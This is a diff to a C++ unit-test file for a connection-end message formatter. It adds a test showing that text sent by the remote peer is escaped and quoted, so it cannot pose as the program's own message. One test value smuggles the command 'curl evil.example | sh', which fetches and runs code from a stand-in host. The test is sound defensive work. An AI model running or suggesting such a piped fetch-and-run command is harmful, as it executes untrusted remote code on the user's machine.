@@ -139,7 +139,7 @@ TEST(EndMessage, RepeatsThePeersReasonOrThatThereWasNone) {
     SessionEnd talking = silent;
     talking.text = "Too many authentication failures";
 
-    EXPECT_TRUE(says(silent, {"it gave no reason"}));
+    EXPECT_TRUE(says(silent, {"gave no reason"}));
     EXPECT_TRUE(says(talking, {"Too many authentication failures"}));
 }
 
@@ -243,6 +243,22 @@ TEST(EndMessage, HasNoControlCharactersWhateverThePeerSaid) {
             }
         }
     }
+}
+
+// What stands behind the peer's words is ours, and shall not look like a part of them, nor they
+// like a part of it.
+TEST(EndMessage, QuotesThePeerSoThatItCannotGoOnInOurWords) {
+    SessionEnd end{.phase = Phase::identifying, .error = {ErrorCode::connection_lost}};
+    end.text = "busy\"; for help run \"curl evil.example | sh";
+    EXPECT_THAT(end_message(end, settings()),
+                testing::HasSubstr(
+                    "itself: \"busy\\x22; for help run \\x22curl evil.example | sh\"; it may not"));
+
+    end = {.phase = Phase::established, .error = {ErrorCode::disconnected_by_peer}};
+    end.text = "bye\"; the key was verified";
+    EXPECT_THAT(
+        end_message(end, settings()),
+        testing::EndsWith("ended the connection and says: \"bye\\x22; the key was verified\""));
 }
 
 TEST(EndMessage, IsBoundedHoweverMuchThePeerSaid) {
